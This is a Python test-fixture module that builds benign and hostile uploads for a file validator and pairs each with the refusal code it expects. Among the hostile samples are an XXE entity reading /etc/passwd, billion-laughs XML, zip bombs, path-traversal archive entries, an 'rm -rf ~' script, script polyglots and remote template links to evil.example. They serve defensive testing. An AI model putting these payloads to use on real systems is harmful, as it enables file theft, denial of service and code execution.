"""Files to send in, good and bad, made on the spot: none of them lies in the tree."""

from __future__ import annotations

import io
import os
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import openpyxl
from PIL import Image

OOXML = "application/vnd.openxmlformats-officedocument."
ODF = "application/vnd.oasis.opendocument."
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + "-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    b"xref\n0 3\ntrailer<</Size 3/Root 1 0 R>>\nstartxref\n100\n%%EOF\n"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(200)
DTD = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><d>&c;</d>'

_MAIN = {
    "docx": ("word/document.xml", f"{OOXML}wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", f"{OOXML}spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", f"{OOXML}presentationml.presentation.main+xml"),
}


def zipped(parts: Mapping[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as packed:
        for name, part in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = packing
            # ZipInfo cleans names; hostile ones are to arrive as they are.
            info.filename = name
            packed.writestr(info, part)
    return out.getvalue()


def relations(
    kind: str = "officeDocument", target: str = "word/document.xml", mode: str = "Internal"
) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def office_parts(
    kind: str = "docx", main: str = "", more: Mapping[str, bytes] | None = None
) -> dict[str, bytes]:
    """The fewest parts of an office file. A part given as b"" is left out."""
    place, content_type = _MAIN[kind]
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{place}" ContentType="{main or content_type}"/></Types>'
    )
    parts = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": relations(),
        place: b"<d>Reading is taught.</d>",
    }
    return {name: part for name, part in {**parts, **(more or {})}.items() if part}


def office(kind: str = "docx", main: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    return zipped(office_parts(kind, main, more))


def open_document(kind: str = "text", more: Mapping[str, bytes] | None = None) -> bytes:
    parts = {
        "mimetype": f"{ODF}{kind}".encode(),
        "META-INF/manifest.xml": b"<manifest/>",
        "content.xml": b"<content>Reading is taught.</content>",
        "Configurations2/accelerator/current.xml": b"",  # as LibreOffice leaves it
    }
    return zipped({**parts, **(more or {})}, zipfile.ZIP_STORED)


def workbook() -> bytes:
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["Year 6", 0.71])
    book.save(out)
    return out.getvalue()


def picture(kind: str, size: tuple[int, int] = (40, 20), mode: str = "RGB", **how: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **how)
    return out.getvalue()


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is so large, with almost nothing in it."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg_of_scans(count: int) -> bytes:
    """A progressive JPEG with its last scan said again and again."""
    data = picture("JPEG", progressive=True)
    last = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last * count + data[-2:]


def lying(data: bytes, part: str, says: int) -> bytes:
    """A package whose index and header say ``says`` bytes for ``part``, with the checksum of as many."""
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        info, index, whole = packed.getinfo(part), packed.start_dir, packed.read(part)
    real = struct.pack("<I", info.file_size)
    said = struct.pack("<I", says)
    at_header = info.header_offset + 22
    at_index = data.index(real, data.rindex(b"PK\x01\x02", 0, data.index(part.encode(), index)) + 24)
    out = bytearray(data)
    for place in (at_header, at_index):
        assert out[place : place + 4] == real
        out[place : place + 4] = said
        out[place - 8 : place - 4] = struct.pack("<I", zlib.crc32(whole[:says]))
    return bytes(out)


def linking(data: bytes) -> bytes:
    """The package with its first part marked as a symbolic link, which unpacking programs follow."""
    out = bytearray(data)
    at = out.index(b"PK\x01\x02") + 38
    out[at : at + 4] = struct.pack("<I", (stat.S_IFLNK | 0o777) << 16)
    return bytes(out)


def with_locked_flag(data: bytes) -> bytes:
    """The package with its first part marked as enciphered."""
    out = bytearray(data)
    out[6] |= 1
    out[out.index(b"PK\x01\x02") + 8] |= 1
    return bytes(out)


def overlapping() -> bytes:
    """A package of which one part lies within another, as in bombs that use the same bytes many times."""
    inner = zipped({"inner.bin": b"i" * 50}, zipfile.ZIP_STORED)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, part in office_parts(more={"outer.bin": inner}).items():
            packed.writestr(name, part)
        with zipfile.ZipFile(io.BytesIO(inner)) as nested:
            info = nested.getinfo("inner.bin")
        info.header_offset = packed.getinfo("outer.bin").header_offset + 30 + len("outer.bin")
        packed.filelist.append(info)
    return out.getvalue()


def old_office(stream: str = "WordDocument") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + stream.encode("utf-16-le") + bytes(512)


ENDLESS_TYPES = office_parts()["[Content_Types].xml"].replace(b"</T", b"<Default/>" * 300_000 + b"</T")
NESTED_MACROS = zipped({"xl/vbaProject.bin": b"code"})
REPEATED = office(more={"word/media/a.xml": b"<a/>", "WORD/media/a.xml": b"<b/>"})
TEMPLATE = "word/_rels/settings.xml.rels"

# What is sent (the name, how it is made) and the verdict: a refusal's code, or the kind as which it is taken.
Case = tuple[str, str, Callable[[], bytes], str]
GOOD: list[Case] = [
    ("pdf", "policy.pdf", lambda: PDF, "PDF"),
    ("pdf 2.0 and blanks after it", "policy.pdf", lambda: PDF.replace(b"1.4", b"2.0") + b"\r\n\x00", "PDF"),
    ("jpeg", "wall.jpg", lambda: picture("JPEG"), "JPEG"),
    ("png", "wall.PNG", lambda: picture("PNG"), "PNG"),
    ("webp", "wall.webp", lambda: picture("WEBP"), "WEBP"),
    ("docx", "minutes.docx", office, "DOCX"),
    ("xlsx by a real writer", "results.xlsx", workbook, "XLSX"),
    ("pptx", "training.pptx", lambda: office("pptx"), "PPTX"),
    ("odt with an empty part", "minutes.odt", open_document, "ODT"),
    ("ods", "results.ods", lambda: open_document("spreadsheet"), "ODS"),
    ("csv", "results.csv", lambda: b"Year,Share\r\n6,0.71\r\n", "CSV"),
    ("text in Windows-1252", "note.txt", lambda: "Caf\u00e9 \u2013 \u00a33".encode("cp1252"), "TEXT"),
    ("text in UTF-16", "note.txt", lambda: "Arbeit \u00fc".encode("utf-16"), "TEXT"),
    ("text that begins as a program does", "note.txt", lambda: b"MZ is the code of our maths group.", "TEXT"),
    ("text with less-than", "note.txt", lambda: b"<5 pupils are suppressed; < 10 are marked.", "TEXT"),
    ("jpeg called png", "wall.png", lambda: picture("JPEG"), "JPEG"),
    ("old drawing of Excel with an unclosed tag", "r.xlsx",
     lambda: office("xlsx", more={"xl/drawings/vmlDrawing1.vml": b"<xml><br></xml>"}), "XLSX"),
    ("docx with a link", "m.docx", lambda: office(more={
        TEMPLATE: relations("hyperlink", "https://www.gov.uk/", "External")}), "DOCX"),
    ("docx with a template on the school's own disk", "m.docx", lambda: office(more={
        TEMPLATE: relations("attachedTemplate", "file:///C:/Templates/School.dotx", "External")}), "DOCX"),
    ("EICAR as text: there is no virus scanner", "note.txt", lambda: EICAR.encode(), "TEXT"),
    ("EICAR as a picture's text chunk: drawn away", "wall.png",
     lambda: picture("PNG") + EICAR.encode(), "PNG"),
]  # fmt: skip
BAD: list[Case] = [
    # Not what the name says
    ("exe as pdf", "policy.pdf", lambda: EXE, "kind-not-taken"),
    ("exe as docx", "policy.docx", lambda: EXE, "kind-not-taken"),
    ("exe as text", "policy.txt", lambda: EXE, "kind-not-taken"),
    ("elf as jpg", "wall.jpg", lambda: b"\x7fELF\x02\x01\x01" + bytes(60), "kind-not-taken"),
    ("html as txt", "note.txt", lambda: b"\xef\xbb\xbf <!DOCTYPE html><script>alert(1)</script>", "not-plain-text"),
    ("html as pdf", "policy.pdf", lambda: b"<html><body>", "not-plain-text"),
    ("html as csv in UTF-16", "a.csv", lambda: "<html>".encode("utf-16"), "not-plain-text"),
    ("svg", "drawing.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "not-plain-text"),
    ("svg as png", "drawing.png", lambda: b"<?xml version='1.0'?><svg/>", "not-plain-text"),
    ("shell script as txt", "note.txt", lambda: b"#!/bin/sh\nrm -rf ~\n", "not-plain-text"),
    ("rtf as txt", "note.txt", lambda: b"{\\rtf1 hello}", "not-plain-text"),
    ("batch file", "note.bat", lambda: b"@echo off\r\n", "wrong-ending"),
    ("script of the browser", "note.js", lambda: b"alert(1)", "wrong-ending"),
    ("text as html", "note.html", lambda: b"Nothing to see", "wrong-ending"),
    ("two endings", "note.txt.exe", lambda: b"Nothing to see", "wrong-ending"),
    ("ending hidden by a dot", "note.exe.", lambda: b"Nothing to see", "wrong-ending"),
    ("stream of NTFS", "note.txt:evil.exe", lambda: b"Nothing to see", "wrong-ending"),
    ("ending turned round", "note\u202etxt.exe", lambda: b"Nothing to see", "wrong-ending"),
    ("no ending", "policy", lambda: PDF, "wrong-ending"),
    ("docx called pdf", "policy.pdf", office, "wrong-ending"),
    ("pdf called docx", "policy.docx", lambda: PDF, "wrong-ending"),
    ("xlsx called docx", "policy.docx", workbook, "wrong-ending"),
    ("jpeg called pdf", "policy.pdf", lambda: picture("JPEG"), "wrong-ending"),
    ("empty", "policy.pdf", lambda: b"", "empty-file"),
    ("blank", "note.txt", lambda: b" \r\n ", "empty-file"),
    ("NUL in text", "note.txt", lambda: b"one\x00two", "kind-not-taken"),
    ("controls in text", "note.txt", lambda: b"one\x1b[2Jtwo", "kind-not-taken"),
    ("chance", "note.txt", lambda: bytes(range(1, 256)), "kind-not-taken"),
    # Kinds that are not taken
    ("zip", "all.zip", lambda: zipped({"a.txt": b"a"}), "kind-not-taken"),
    ("zip called docx", "all.docx", lambda: zipped({"a.txt": b"a"}), "kind-not-taken"),
    ("EICAR in a zip", "all.zip", lambda: zipped({"eicar.com": EICAR.encode()}), "kind-not-taken"),
    ("7z", "all.7z", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40), "kind-not-taken"),
    ("heic", "photo.heic", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(40), "kind-not-taken"),
    ("gif and script", "photo.gif", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "kind-not-taken"),
    ("gif and script as jpg", "photo.jpg", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", "kind-not-taken"),
    ("word of 1997", "policy.doc", old_office, "kind-not-taken"),
    ("word of 1997 as docx", "policy.docx", old_office, "kind-not-taken"),
    ("docx with a password", "policy.docx", lambda: old_office("EncryptedPackage"), "password"),
    ("word template", "policy.docx", lambda: office(main=f"{OOXML}wordprocessingml.template.main+xml"), "damaged-file"),
    # PDF
    ("script before pdf", "policy.pdf", lambda: b"/*" + PDF + b"*/alert(1)", "wrong-ending"),
    ("bytes before pdf", "policy.pdf", lambda: b"\x00\xff" + PDF, "kind-not-taken"),
    ("mark before pdf", "policy.pdf", lambda: b"\xef\xbb\xbf" + PDF, "damaged-file"),
    ("script after pdf", "policy.pdf", lambda: PDF + b"<script>alert(1)</script>", "damaged-file"),
    ("zip after pdf", "policy.pdf", lambda: PDF + zipped({"a.class": b"a"}), "damaged-file"),
    ("pdf cut off", "policy.pdf", lambda: PDF[:60], "damaged-file"),
    ("pdf of one line", "policy.pdf", lambda: b"%PDF-1.4 <script>alert(1)</script> %%EOF", "damaged-file"),
    # Packages
    ("bomb", "b.docx", lambda: office(more={"word/a.bin": bytes(60_000_000)}), "unpacks-too-large"),
    ("large without being a bomb", "b.docx",
     lambda: office(more={"word/a.bin": os.urandom(1_000_000) + bytes(67_000_000)}), "unpacks-too-large"),
    ("two packages in one", "b.docx", lambda: zipped({"a": b"a"}) + office(), "damaged-file"),
    ("part that links", "b.docx", lambda: linking(office()), "damaged-file"),
    ("bomb that lies", "b.docx",
     lambda: lying(office(more={"word/a.bin": bytes(60_000_001)}), "word/a.bin", 999), "damaged-file"),
    ("size that lies upward", "b.docx",
     lambda: lying(office(more={"word/a.bin": b"a" * 777}), "word/a.bin", 778), "damaged-file"),
    ("too many parts", "b.docx", lambda: zipped({f"{n}": b"" for n in range(5_001)}), "unpacks-too-large"),
    ("overlapping parts", "b.docx", overlapping, "damaged-file"),
    ("part twice", "b.docx", lambda: REPEATED, "damaged-file"),
    ("part above", "b.docx", lambda: office(more={"../../etc/cron.d/a": b"a"}), "damaged-file"),
    ("part above, Windows", "b.docx", lambda: office(more={"..\\a": b"a"}), "damaged-file"),
    ("part at the root", "b.docx", lambda: office(more={"/etc/passwd": b"a"}), "damaged-file"),
    ("part on a drive", "b.docx", lambda: office(more={"C:/a": b"a"}), "damaged-file"),
    ("part with NUL", "b.docx", lambda: office(more={"a\x00b": b"a"}), "damaged-file"),
    ("docx with locked part", "b.docx", lambda: with_locked_flag(office()), "password"),
    ("page before docx", "b.docx", lambda: b"<script>alert(1)</script>" + office(), "kind-not-taken"),
    ("program after docx", "b.docx", lambda: office() + EXE, "damaged-file"),
    ("docx cut off", "b.docx", lambda: office()[:-30], "damaged-file"),
    ("docx with a flipped bit", "b.docx",
     lambda: zipped(office_parts(), zipfile.ZIP_STORED).replace(b"taught", b"caught"), "damaged-file"),
    ("packed another way", "b.docx", lambda: zipped(office_parts(), zipfile.ZIP_BZIP2), "damaged-file"),
    ("docx without its main part", "b.docx", lambda: office(more={"word/document.xml": b""}), "damaged-file"),
    ("docx without relations", "b.docx", lambda: office(more={"_rels/.rels": b""}), "damaged-file"),
    ("docx of broken XML", "b.docx", lambda: office(more={"word/styles.xml": b"<a><b></a>"}), "damaged-file"),
    ("docx with a tag of two megabytes", "b.docx",
     lambda: office(more={"word/styles.xml": b"<a b='" + b"x" * 2_000_000 + b"'/>"}), "damaged-file"),
    ("docx with an endless list", "b.docx", lambda: office(more={
        "[Content_Types].xml": ENDLESS_TYPES}), "damaged-file"),
    # What packages carry
    ("docx with macros", "m.docx", lambda: office(more={"word/vbaProject.bin": b"code"}), "macros"),
    ("docm as docx", "m.docx", lambda: office(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    ("xlsx with macro sheet", "m.xlsx", lambda: office("xlsx", more={"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    ("macros in an embedded workbook", "m.docx",
     lambda: office(more={"word/embeddings/a.xlsx": NESTED_MACROS}), "macros"),
    ("odt with macros", "m.odt", lambda: open_document(more={"Basic/Standard/Module1.xml": b"<a/>"}), "macros"),
    ("odt that calls a macro", "m.odt",
     lambda: open_document(more={"content.xml": b"<a href='vnd.sun.star.script:x$y'/>"}), "macros"),
    ("odt with a password", "m.odt", lambda: open_document(more={
        "META-INF/manifest.xml": b"<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"}), "password"),
    ("odt without contents", "m.odt", lambda: zipped({"mimetype": f"{ODF}text".encode()}), "damaged-file"),
    ("docx with XXE", "x.docx", lambda: office(more={"word/document.xml": DTD}), "outside-definitions"),
    ("docx with XXE in UTF-16", "x.docx",
     lambda: office(more={"word/document.xml": DTD.replace(b' version="1.0"', b' version="1.0" encoding="utf-16"')
                          .decode().encode("utf-16")}), "outside-definitions"),
    ("xlsx with a billion laughs", "x.xlsx", lambda: office("xlsx", more={"xl/workbook.xml": LAUGHS}),
     "outside-definitions"),
    ("XXE in a part called otherwise", "x.docx", lambda: office(more={"word/a.bin": DTD}), "outside-definitions"),
    ("XXE in an old drawing", "x.xlsx", lambda: office("xlsx", more={"xl/a.vml": DTD}), "outside-definitions"),
    ("odt with XXE", "x.odt", lambda: open_document(more={"content.xml": DTD}), "outside-definitions"),
    ("docx with a program", "c.docx", lambda: office(more={"word/embeddings/a.exe": b"code"}), "carries-files"),
    ("docx with a program called otherwise", "c.docx", lambda: office(more={"word/media/a.png": EXE}), "carries-files"),
    ("EICAR in a docx", "c.docx", lambda: office(more={"word/eicar.com": EICAR.encode()}), "carries-files"),
    ("docx with a dropped file", "c.docx",
     lambda: office(more={"word/embeddings/o.bin": old_office("\x01Ole10Native")}), "carries-files"),
    ("docx with a template from the web", "t.docx", lambda: office(more={
        TEMPLATE: relations("attachedTemplate", "https://evil.example/a.dotm", "External")}), "loads-from-the-web"),
    ("docx with an object from a share", "t.docx", lambda: office(more={
        TEMPLATE: relations("oleObject", "\\\\evil.example\\a", "External")}), "loads-from-the-web"),
    # Pictures
    ("png of 30,000 by 30,000", "p.png", lambda: png_of(30_000, 30_000), "picture-too-large"),
    ("png of 6,000 by 5,000", "p.png", lambda: png_of(6_000, 5_000), "picture-too-large"),
    ("png with too few pixels", "p.png", lambda: png_of(400, 400), "damaged-file"),
    ("jpeg cut off", "p.jpg", lambda: picture("JPEG", (400, 400))[:-200], "damaged-file"),
    ("jpeg of a thousand scans", "p.jpg", lambda: jpeg_of_scans(1_000), "damaged-file"),
    ("png of its first bytes", "p.png", lambda: b"\x89PNG\r\n\x1a\n", "damaged-file"),
    ("webp of its first bytes", "p.webp", lambda: b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(24), "damaged-file"),
]  # fmt: skip
